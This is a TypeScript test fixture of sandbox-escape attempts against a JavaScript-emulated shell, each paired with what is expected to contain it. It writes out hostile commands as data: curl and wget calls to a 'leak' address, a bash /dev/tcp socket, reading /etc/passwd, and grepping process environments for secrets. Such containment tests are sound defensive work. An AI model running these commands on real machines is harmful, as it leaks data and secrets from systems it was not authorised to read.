import type { Attempt } from './attempt.ts';

/** Nothing of a machine is near this shell: what it has of files and commands is written in JavaScript. */
const heldBy = 'the shell: it has files and commands of its own, and no machine';

/** From a shell script: what it prints counts as got through. */
export const fromTheShell: readonly Attempt[] = [
  { name: 'curl to a foreign address', code: 'curl -sS "$PORTAL/leak-curl"' },
  {
    name: 'curl to a file',
    code: 'curl -s file:///etc/passwd',
    heldBy: 'the browser: a page on the web reads no files',
    planted: { program: 'curl() { echo root; }' },
  },
  {
    name: 'wget',
    code: 'wget -qO- "$PORTAL/leak-wget"',
    heldBy,
    planted: { program: 'wget() { curl -s "$2"; }' },
  },
  {
    name: 'a socket of bash',
    code: 'exec 3<>"/dev/tcp/localhost/$(echo "$PORTAL" | cut -d: -f3)" && printf "GET /leak-tcp HTTP/1.0\\r\\n\\r\\n" >&3 && head -1 <&3',
    heldBy,
    planted: { program: 'head() { echo HTTP/1.0; }; mkdir -p /dev/tcp/localhost' },
  },
  {
    name: 'the environment of the machine',
    code: 'cat /proc/self/environ /proc/1/environ | tr "\\0" "\\n" | grep -i secret',
    heldBy,
    planted: { program: 'mkdir -p /proc/self; echo SECRET=1 > /proc/self/environ' },
  },
  {
    name: 'other languages',
    code: 'js-exec -c "console.log(1)"; python3 -c "print(1)"; node -e "console.log(1)"',
    heldBy,
    planted: { program: 'node() { echo 1; }' },
  },
];
